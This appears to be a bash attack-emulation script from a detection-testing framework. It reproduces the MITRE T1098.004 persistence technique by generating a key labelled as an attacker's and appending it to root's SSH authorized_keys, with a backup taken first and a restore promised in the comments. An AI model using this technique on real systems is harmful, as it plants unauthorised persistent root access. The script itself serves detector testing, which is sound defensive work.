#!/bin/bash
# vigil-emulation: attack
# technique: T1098.004 Account Manipulation: SSH Authorized Keys
# tactic: persistence, privilege-escalation
# what: appends a freshly made "attacker" public key to root's ~/.ssh/authorized_keys
#   (creating the directory and file if needed, chmod 600), as botnets do after a
#   brute force; the file (or its absence) is restored exactly at the end.
# report: root's authorized_keys modified by a shell (echo >>), adding a key.
# expect: authorized_keys|authorized keys|ssh key
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_tmpdir
ssh-keygen -q -t ed25519 -N '' -C 'vigil-emul-attacker' -f "$EMUL_DIR/k"
emul_backup "$HOME/.ssh/authorized_keys"
mkdir -p "$HOME/.ssh"
chmod 700 "$HOME/.ssh"
echo "$(cat "$EMUL_DIR/k.pub")" >>"$HOME/.ssh/authorized_keys"
chmod 600 "$HOME/.ssh/authorized_keys"
tail -1 "$HOME/.ssh/authorized_keys"
